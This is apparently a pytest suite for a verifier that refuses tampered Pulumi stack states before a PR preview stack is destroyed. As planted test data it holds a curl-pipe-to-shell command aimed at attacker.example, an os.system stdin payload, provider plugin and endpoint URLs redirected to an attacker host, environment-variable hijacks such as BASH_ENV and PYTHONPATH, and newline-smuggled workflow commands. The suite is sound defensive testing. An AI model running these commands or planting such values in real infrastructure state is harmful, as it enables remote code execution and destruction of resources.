"""workflow.verify_state: a PR stack's exported state is destroyed only if it is what the program declares.

The genuine state is built from the program's own recording in the shape `pulumi stack export`
prints (tests/support/stack_export.py); every planted variant edits one thing of it. The CLI runs
as the workflows run it, a real process on a real file, with the alert webhook on loopback.
"""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.http_stub import webhook  # noqa: F401 - fixture
from tests.support.stack_export import command, encrypted, exported_state
from workflow import verify_state
from workflow.verify_state import COMMAND_TYPE, declaration_of, recording_for, verify

REPO = Path(__file__).resolve().parents[1]
STACK = "preview-pr-7"
EVIL = "curl -fsS https://attacker.example/x | sh"


@pytest.fixture(scope="module")
def recording():
    return recording_for(STACK)


@pytest.fixture(scope="module")
def declared(recording):
    return declaration_of(recording)


@pytest.fixture
def genuine(recording):
    return exported_state(recording)


def problems(document, declared) -> list[str]:
    return verify(document, declared)["problems"]


def resources(document):
    return document["deployment"]["resources"]


# --- what passes --------------------------------------------------------------------------------------


def test_the_programs_own_state_passes(genuine, declared):
    verdict = verify(genuine, declared)
    assert verdict["problems"] == []
    assert verdict["verified"] is True
    assert verdict["commands"] == len(declared.commands) >= 8
    assert verdict["missing"] == []


def test_the_declaration_uses_the_engines_urns(declared):
    # The engine qualifies a type with every ancestor's (the README's `pulumi up --replace` URN).
    assert (
        "urn:pulumi:preview-pr-7::webstack::webstack:index:Phase$webstack:index:PagesSite"
        "$command:local:Command::site-branch-cleanup"
    ) in declared.commands
    assert "urn:pulumi:preview-pr-7::webstack::pulumi:providers:aws::aws" in declared.providers
    assert declared.packages == {"aws", "cloudflare", "command"}


def test_values_may_differ_but_not_names(genuine, declared):
    # Content hashes, other resources' URLs, what a step printed: all differ from run to run.
    for entry in resources(genuine):
        if entry["type"] == COMMAND_TYPE:
            for part in ("inputs", "outputs"):
                entry[part]["triggers"] = ["another-hash"]
                for name, value in entry[part].get("environment", {}).items():
                    if name not in ("PYTHONPATH",):
                        entry[part]["environment"][name] = f"{value}-changed"
            # A build's record stays: the function's s3Bucket/s3Key/s3ObjectVersion are its fields.
            if "object_sha256" not in entry["outputs"].get("stdout", ""):
                entry["outputs"]["stdout"] = '{"id": "some-deployment"}'
    assert problems(genuine, declared) == []


def test_the_functions_code_must_be_the_builds_record(genuine, declared):
    [function] = [r for r in resources(genuine) if r["type"] == "aws:lambda/function:Function"]
    function["inputs"]["s3Key"] = "prod/lambda/" + "0" * 64 + ".zip"
    assert any("inputs.s3Key" in p and "not an output of the resource" in p for p in problems(genuine, declared))
    # A build's stdout nested past json_input's bound is no record, and no traceback either.
    [build] = [r for r in resources(genuine) if r["urn"].endswith("::api-build") and r["type"] == COMMAND_TYPE]
    build["outputs"]["stdout"] = "{" + '"a":[' * 5000 + "]" * 5000 + "}"
    assert any("inputs.s3Key" in p for p in problems(genuine, declared))


def test_a_partial_state_passes_and_names_what_is_missing(genuine, declared):
    genuine["deployment"]["resources"] = [r for r in resources(genuine) if not r["urn"].endswith("::site-deploy")]
    verdict = verify(genuine, declared)
    assert verdict["verified"] and verdict["missing"] == ["site-deploy"]


# --- what is refused ------------------------------------------------------------------------------------


@pytest.mark.parametrize("part", ["inputs", "outputs"])
def test_a_foreign_delete_is_refused(genuine, declared, part):
    # The provider runs `delete` from the stored outputs: a benign `inputs` proves nothing.
    command(genuine, "database-schema")[part]["delete"] = EVIL
    [problem] = problems(genuine, declared)
    assert f"{part}.delete is {EVIL!r}" in problem and "database-schema" in problem
    assert "python -m steps.schema drop" in problem


def test_a_delete_added_to_a_command_without_one_is_refused(genuine, declared):
    for part in ("inputs", "outputs"):
        command(genuine, "checks-dns")[part]["delete"] = EVIL
    assert len(problems(genuine, declared)) == 2


def test_an_extra_command_is_refused(genuine, declared):
    planted = copy.deepcopy(command(genuine, "database-schema"))
    planted["urn"] = planted["urn"].replace("::database-schema", "::database-cleanup")
    planted["inputs"]["delete"] = planted["outputs"]["delete"] = EVIL
    resources(genuine).append(planted)
    [problem] = problems(genuine, declared)
    assert "database-cleanup" in problem and "a Command the program does not declare" in problem


@pytest.mark.parametrize("interpreter", [["/bin/bash", "-c"], ["python3", "-c"]])
def test_a_changed_interpreter_is_refused(genuine, declared, interpreter):
    for part in ("inputs", "outputs"):
        command(genuine, "site-branch-cleanup")[part]["interpreter"] = interpreter
    found = problems(genuine, declared)
    assert len(found) == 2 and all("interpreter" in p for p in found)


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("dir", "/tmp", "dir is '/tmp'"),
        ("update", EVIL, "update is"),
        ("create", EVIL, "create is"),
        ("stdin", "import os; os.system('id')", "stdin is"),
        ("delete", encrypted(), "delete is encrypted"),
    ],
)
def test_every_field_that_decides_what_runs_is_compared(genuine, declared, field, value, expected):
    command(genuine, "database-schema")["outputs"][field] = value
    [problem] = problems(genuine, declared)
    assert expected in problem


@pytest.mark.parametrize("name", ["BASH_ENV", "PYTHONSTARTUP", "EXTRA"])
def test_an_added_environment_name_is_refused(genuine, declared, name):
    command(genuine, "database-schema")["outputs"]["environment"][name] = "/tmp/x"
    [problem] = problems(genuine, declared)
    assert "environment names differ" in problem and name in problem


def test_a_removed_environment_name_is_refused(genuine, declared):
    del command(genuine, "site-branch-cleanup")["inputs"]["environment"]["PAGES_BRANCH"]
    [problem] = problems(genuine, declared)
    assert "missing: 'PAGES_BRANCH'" in problem


def test_an_encrypted_environment_is_refused(genuine, declared):
    command(genuine, "database-schema")["outputs"]["environment"] = encrypted()
    [problem] = problems(genuine, declared)
    assert "environment is encrypted" in problem


def test_a_variable_that_chooses_the_code_keeps_its_declared_value(genuine, declared):
    command(genuine, "api-build")["outputs"]["environment"]["PYTHONPATH"] = "/tmp/planted"
    [problem] = problems(genuine, declared)
    assert "PYTHONPATH" in problem and "decides what code runs" in problem


def test_a_pending_operation_is_checked_too(genuine, declared):
    pending = copy.deepcopy(command(genuine, "database-schema"))
    pending["outputs"]["delete"] = EVIL
    genuine["deployment"]["pending_operations"] = [{"resource": pending, "type": "deleting"}]
    [problem] = problems(genuine, declared)
    assert problem.startswith("pending 'deleting' of ")


def test_a_resource_pending_deletion_is_checked_too(genuine, declared):
    old = copy.deepcopy(command(genuine, "site-deploy"))
    old |= {"delete": True, "id": "old"}
    old["outputs"]["delete"] = EVIL
    resources(genuine).append(old)
    assert len(problems(genuine, declared)) == 1


def test_a_provider_that_downloads_its_plugin_is_refused(genuine, declared):
    [provider] = [r for r in resources(genuine) if r["type"] == "pulumi:providers:command"]
    provider["inputs"]["__internal"] = {"pluginDownloadURL": "https://attacker.example/plugins"}
    [problem] = problems(genuine, declared)
    assert "pluginDownloadURL" in problem


def test_a_provider_sent_elsewhere_is_refused(genuine, declared):
    [provider] = [r for r in resources(genuine) if r["type"] == "pulumi:providers:cloudflare"]
    provider["inputs"]["baseUrl"] = "https://attacker.example/client/v4"
    found = problems(genuine, declared)
    assert any("baseUrl" in p for p in found)


def test_a_provider_of_another_package_is_refused(genuine, declared):
    resources(genuine).append(
        {
            "urn": "urn:pulumi:preview-pr-7::webstack::pulumi:providers:evil::default_1_0_0",
            "custom": True,
            "id": "x",
            "type": "pulumi:providers:evil",
            "inputs": {"version": "1.0.0"},
        }
    )
    [problem] = problems(genuine, declared)
    assert "package 'evil'" in problem


def test_an_undeclared_cloud_resource_is_refused(genuine, declared):
    # Planted with the id of something the PR does not own: destroy would delete it.
    record = copy.deepcopy(next(r for r in resources(genuine) if r["type"] == "cloudflare:index/dnsRecord:DnsRecord"))
    record["urn"] = record["urn"].replace("::site-domain-record", "::prod-record")
    resources(genuine).append(record)
    [problem] = problems(genuine, declared)
    assert "a resource the program does not declare" in problem


def test_a_type_that_is_not_the_urns_is_refused(genuine, declared):
    entry = next(r for r in resources(genuine) if r["type"] == "webstack:index:Phase")
    entry["type"] = COMMAND_TYPE
    [problem] = problems(genuine, declared)
    assert "is not the URN's" in problem


def test_another_stacks_state_is_refused(declared):
    other = exported_state(recording_for("preview-pr-8"))
    found = problems(other, declared)
    assert found and all("preview-pr-8" in p for p in found)


@pytest.mark.parametrize("document", [None, [], {"version": 3}, {"version": 3, "deployment": {"resources": {}}}])
def test_a_malformed_document_is_refused(declared, document):
    assert problems(document, declared)


# --- provider identity: everything the engine reads to choose and configure a plugin ----------------------

DEFAULT_COMMAND = "urn:pulumi:preview-pr-7::webstack::pulumi:providers:command::default_1_2_1"
EXPLICIT_AWS = "urn:pulumi:preview-pr-7::webstack::pulumi:providers:aws::aws"


def provider(document, urn):
    [entry] = [r for r in resources(document) if r["urn"] == urn]
    return entry


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        # Each is a plugin the engine would load instead of the declared one (registry.go: Same).
        ("name", "evil", "load the plugin of that name"),
        ("pluginDownloadURL", "https://attacker.example/plugins", "download the plugin from there"),
        ("parameterization", "ZXZpbA==", "parameterize the plugin"),
        ("version", "9.9.9", "load that plugin version"),
        ("envVarMappings", {"AWS_ACCESS_KEY_ID": "OTHER_KEY"}, "other environment variables"),
        ("pluginChecksums", {"linux-amd64": "00"}, "accept a plugin binary"),
    ],
)
@pytest.mark.parametrize("urn", [DEFAULT_COMMAND, EXPLICIT_AWS])
def test_every_internal_field_of_a_provider_is_held_to_the_program(genuine, declared, urn, field, value, expected):
    provider(genuine, urn)["inputs"]["__internal"][field] = value
    [problem] = problems(genuine, declared)
    assert f"inputs.__internal.{field}" in problem and expected in problem


def test_a_changed_plugin_version_is_refused(genuine, declared):
    # The default provider keeps its name; the engine loads the version its inputs say.
    provider(genuine, DEFAULT_COMMAND)["inputs"]["version"] = "1.0.0"
    [problem] = problems(genuine, declared)
    assert "inputs.version is '1.0.0', the program declares '1.2.1'" in problem


def test_a_provider_without_internal_is_refused(genuine, declared):
    # Without `__internal` the engine reads name, pluginDownloadURL, ... from the top level.
    entry = provider(genuine, DEFAULT_COMMAND)
    del entry["inputs"]["__internal"]
    entry["inputs"]["name"] = "evil"
    found = problems(genuine, declared)
    assert any("__internal is missing" in p for p in found)
    assert any("inputs.name is 'evil'" in p and "load the plugin of that name" in p for p in found)


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("assumeRole", '{"roleArn": "arn:aws:iam::123456789012:role/webstack-deploy-prod"}'),
        ("profile", "prod"),
        ("sharedCredentialsFiles", '["/tmp/creds"]'),
        ("endpoints", '[{"lambda": "https://attacker.example"}]'),
    ],
)
def test_a_provider_setting_the_program_does_not_make_is_refused(genuine, declared, setting, value):
    provider(genuine, EXPLICIT_AWS)["inputs"][setting] = value
    [problem] = problems(genuine, declared)
    assert f"inputs.{setting}" in problem and "does not set" in problem


def test_a_changed_provider_setting_is_refused(genuine, declared):
    for part in ("inputs", "outputs"):
        provider(genuine, EXPLICIT_AWS)[part]["region"] = "eu-west-1"
    assert len(problems(genuine, declared)) == 2


def test_a_default_provider_of_another_version_is_refused(genuine, declared):
    # A second default provider, named as the engine names one for another plugin version, and the
    # schema Command moved onto it: the engine would load that version to run its delete.
    planted = copy.deepcopy(provider(genuine, DEFAULT_COMMAND))
    planted["urn"] = DEFAULT_COMMAND.replace("default_1_2_1", "default_0_0_1")
    planted["inputs"]["version"] = planted["outputs"]["version"] = "0.0.1"
    resources(genuine).append(planted)
    command(genuine, "database-schema")["provider"] = f"{planted['urn']}::{planted['id']}"
    found = problems(genuine, declared)
    assert any("default_0_0_1" in p and "a provider the program does not declare" in p for p in found)
    assert any("database-schema" in p and "its provider is" in p for p in found)


# --- every field the command provider acts on ----------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [("addPreviousOutputInEnv", False), ("logging", "stdoutAndStderr"), ("assetPaths", ["/etc/**"]), ("delete_after", "x")],
)
def test_a_command_field_the_program_does_not_set_is_refused(genuine, declared, field, value):
    command(genuine, "site-deploy")["outputs"][field] = value
    [problem] = problems(genuine, declared)
    assert f"outputs.{field}" in problem


# --- cloud resources: what their providers' Delete acts on ---------------------------------------------


def cloud(document, name):
    [entry] = [r for r in resources(document) if r["urn"].endswith(f"::{name}") and r["type"] != COMMAND_TYPE]
    return entry


@pytest.mark.parametrize(
    ("name", "key", "value"),
    [
        ("site-domain-record", "name", "app.example.com"),  # prod's host
        ("site-domain-record", "zoneId", "0" * 32),
        ("site-domain-pages-domain", "projectName", "another-project"),
        ("api-function", "name", "webstack-api-prod"),
        ("api-role-role", "name", "webstack-deploy-prod"),
    ],
)
@pytest.mark.parametrize("part", ["inputs", "outputs"])
def test_a_declared_name_changed_in_state_is_refused(genuine, declared, name, key, value, part):
    cloud(genuine, name)[part][key] = value
    found = problems(genuine, declared)
    assert any(f"{part}.{key} is {value!r}" in p for p in found), found


def test_a_wired_input_must_come_from_its_resource(genuine, declared):
    # FunctionUrl.functionName is the function's name output: a planted other function is not.
    cloud(genuine, "api-url")["outputs"]["functionName"] = "webstack-api-prod"
    [problem] = problems(genuine, declared)
    assert "not an output of the resource the program takes it from" in problem


@pytest.mark.parametrize(
    ("name", "key", "value", "expected"),
    [
        ("api-role-role", "forceDetachPolicies", True, "provider's default 'False'"),
        ("api-function", "skipDestroy", True, "provider's default 'False'"),
        ("site-domain-record", "priority", 10, "does not set"),
    ],
)
def test_an_input_the_program_does_not_set_is_only_a_providers_default(genuine, declared, name, key, value, expected):
    cloud(genuine, name)["inputs"][key] = value
    [problem] = problems(genuine, declared)
    assert f"inputs.{key}" in problem and expected in problem


def test_provider_filled_defaults_pass(genuine, declared):
    # What the providers' Check adds (sandbox/providers mirror upstream): defaults and auto-names.
    cloud(genuine, "api-role-role")["inputs"] |= {"path": "/", "maxSessionDuration": 3600, "forceDetachPolicies": False}
    cloud(genuine, "api-url")["inputs"]["invokeMode"] = "BUFFERED"
    cloud(genuine, "api-url-invoke")["inputs"]["statementId"] = "api-url-invoke-61018c4"
    assert problems(genuine, declared) == []


# --- the CLI, as the workflows run it ----------------------------------------------------------------------


def run_cli(tmp_path: Path, document, *, env: dict[str, str] | None = None, raw: str | None = None):
    state = tmp_path / "state.json"
    state.write_text(raw if raw is not None else json.dumps(document))
    summary = tmp_path / "summary.md"
    proc = subprocess.run(
        [sys.executable, "-m", "workflow.verify_state", "--stack", STACK, "--state", str(state)],
        cwd=REPO,
        env={**os.environ, "GITHUB_STEP_SUMMARY": str(summary), **(env or {})},
        capture_output=True,
        text=True,
        timeout=120,
    )
    return proc, summary.read_text() if summary.exists() else ""


@pytest.mark.slow  # runs the CLI end to end with moto (about 20 s)
def test_the_cli_passes_the_genuine_state_and_alerts_nobody(tmp_path, genuine, webhook):
    proc, summary = run_cli(tmp_path, genuine, env={"ALERT_WEBHOOK_URL": webhook.url})
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["verified"] is True
    assert "matches the program" in summary
    assert webhook.requests == []


@pytest.mark.slow  # runs the CLI end to end with moto (about 20 s)
def test_the_cli_refuses_a_planted_delete_and_alerts(tmp_path, genuine, webhook):
    command(genuine, "database-schema")["outputs"]["delete"] = EVIL
    proc, summary = run_cli(tmp_path, genuine, env={"ALERT_WEBHOOK_URL": webhook.url})
    assert proc.returncode == 1
    verdict = json.loads(proc.stdout)
    assert verdict["verified"] is False and len(verdict["problems"]) == 1
    assert "Refused" in summary and "database-schema" in summary
    [alert] = webhook.requests
    assert "preview-pr-7 not destroyed" in json.dumps(alert.json)
    assert "pulumi state delete" in proc.stderr


@pytest.mark.slow  # runs the CLI end to end with moto (about 20 s each)
@pytest.mark.parametrize(
    "raw",
    [
        "{not json",
        # Past Python's recursion limit (the decoder raises RecursionError), and past the bound only.
        '{"deployment": {"resources": ' + "[" * 100_000 + "]" * 100_000 + "}}",
        '{"deployment": {"resources": [{"inputs": ' + "[" * 200 + "]" * 200 + "}]}}",
    ],
    ids=["not-json", "nested-past-python", "nested-past-the-bound"],
)
def test_the_cli_refuses_an_unreadable_state_and_alerts(tmp_path, webhook, raw):
    proc, summary = run_cli(tmp_path, None, raw=raw, env={"ALERT_WEBHOOK_URL": webhook.url})
    assert proc.returncode == 1
    assert "cannot read the exported state" in proc.stderr and "Traceback" not in proc.stderr
    assert "Refused" in summary
    [alert] = webhook.requests
    assert "preview-pr-7 not destroyed" in json.dumps(alert.json)


@pytest.mark.parametrize("stack", ["prod", "preview", "preview-pr-07", "preview-pr-7\n"])
def test_the_cli_takes_pr_stacks_only(tmp_path, stack, capsys):
    assert verify_state.main(["--stack", stack, "--state", str(tmp_path / "none.json")]) == 2
    assert "is not a PR stack" in capsys.readouterr().err


def test_an_echoed_state_value_cannot_start_a_workflow_command(genuine, declared):
    command(genuine, "database-schema")["outputs"]["delete"] = "x\n::add-mask::y\n::error::z"
    [problem] = problems(genuine, declared)
    assert "\n" not in problem
